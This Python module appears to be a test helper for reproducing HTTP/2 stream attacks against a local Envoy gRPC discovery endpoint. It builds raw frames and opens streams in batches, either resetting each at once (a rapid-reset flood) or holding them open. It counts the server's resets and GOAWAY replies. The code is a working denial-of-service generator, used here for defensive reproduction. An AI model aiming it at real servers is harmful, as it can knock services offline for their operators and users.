"""A bare HTTP/2 client for attack reproductions: streams opened (HEADERS) and reset at once, or left open."""

from __future__ import annotations

import asyncio
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 8
PATH = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: str, value: str) -> bytes:
    """HPACK: literal header field without indexing, new name (lengths under 127)."""
    n, v = name.encode(), value.encode()
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


HEADER_BLOCK = b"".join(
    _literal(k, v)
    for k, v in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", PATH),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
)


class RawConnection:
    def __init__(self) -> None:
        self.refused = 0  # RST_STREAM frames from the server
        self.goaway: int | None = None
        self.max_concurrent_streams: int | None = None
        self._next = 1

    async def open(self, port: int) -> None:
        self.reader, self.writer = await asyncio.open_connection("127.0.0.1", port)
        self.writer.write(PREFACE + frame(SETTINGS, 0, 0))
        self._task = asyncio.create_task(self._read())

    async def _read(self) -> None:
        try:
            while True:
                head = await self.reader.readexactly(9)
                length = int.from_bytes(head[:3], "big")
                kind, flags = head[3], head[4]
                payload = await self.reader.readexactly(length)
                if kind == SETTINGS and not flags & ACK:
                    for i in range(0, len(payload), 6):
                        ident, value = struct.unpack(">HI", payload[i : i + 6])
                        if ident == 3:
                            self.max_concurrent_streams = value
                    self.writer.write(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self.writer.write(frame(PING, ACK, 0, payload))
                elif kind == RST_STREAM:
                    self.refused += 1
                elif kind == GOAWAY:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
        except (asyncio.IncompleteReadError, ConnectionError):
            pass

    async def streams(self, count: int, *, reset: bool, batch: int = 500) -> None:
        """Open `count` streams (HEADERS, no request); reset each at once if `reset`."""
        for start in range(0, count, batch):
            chunk = []
            for _ in range(min(batch, count - start)):
                stream, self._next = self._next, self._next + 2
                chunk.append(frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK))
                if reset:
                    chunk.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
            self.writer.write(b"".join(chunk))
            await self.writer.drain()

    async def close(self) -> None:
        self.writer.close()
        self._task.cancel()
